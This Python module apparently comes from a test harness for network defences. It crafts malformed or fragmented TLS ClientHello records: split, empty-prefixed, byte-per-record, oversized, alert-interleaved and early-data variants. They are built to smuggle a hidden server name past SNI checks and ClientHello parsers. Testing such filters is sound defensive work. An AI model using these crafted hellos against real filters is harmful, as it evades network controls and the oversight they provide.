"""A hello in pieces is read by one parser whole and by the other in part."""

import struct
from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import Technique

TECHNIQUE = Technique(
    tries="Send the hello in many records, with an empty one, with another message behind it, or with a length without end.",
    claim="E3",
    defences=("parser strictness: ClientHello", "SNI check"),
    stopped_by=(
        "hello_",
        "server_name",
        "hello",
        "sni_",
        "not_tls",
        "record",
        "not_hello",
        "extension",
        "extensions",
        "ech",
        "too_large",
        "hello_",
    ),
    variants={
        one: one
        for one in (
            "another message behind",
            "an empty record",
            "a byte each",
            "a length without end",
            "an alert between",
            "early data",
        )
    },
    quick=True,
)


def hello(names: bytes, *, version: bytes = b"\3\3", more: bytes = b"") -> bytes:
    """A ClientHello with that server_name extension and others."""
    ext = struct.pack("!HH", 0, len(names)) + names if names else b""
    ext += bytes.fromhex("002b0003020304000d000400020403000a00040002001d003300260024001d0020") + bytes(range(32)) + more
    body = version + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack("!H", len(ext)) + ext
    return b"\1" + len(body).to_bytes(3, "big") + body


def record(data: bytes, kind: int = 22) -> bytes:
    """A record of TLS."""
    return bytes([kind, 3, 1]) + struct.pack("!H", len(data)) + data


def name_list(*names: bytes, kind: int = 0) -> bytes:
    """What a server_name extension holds."""
    listed = b"".join(bytes([kind]) + struct.pack("!H", len(one)) + one for one in names)
    return struct.pack("!H", len(listed)) + listed


def attack(case: Case, what: Any) -> None:
    right, hidden = case.ground.packages.encode(), case.ground.hidden.encode()
    hellos = {
        "another message behind": record(hello(name_list(right)) + hello(name_list(hidden))),
        "an empty record": record(b"") + record(hello(name_list(hidden))),
        "a byte each": b"".join(record(bytes([one])) for one in hello(name_list(hidden))),
        "a length without end": record(b"\1\xff\xff\xff" + bytes(4000)),
        "an alert between": record(hello(name_list(hidden))[:50]) + record(b"\1\0", 21) + record(hello(name_list(hidden))[50:]),
        "early data": record(hello(name_list(hidden), more=b"\0\x2a\0\0")) + record(b"GET / HTTP/1.1", 23),
    }
    case.connect(case.address(case.ground.packages), 443, hellos[what])
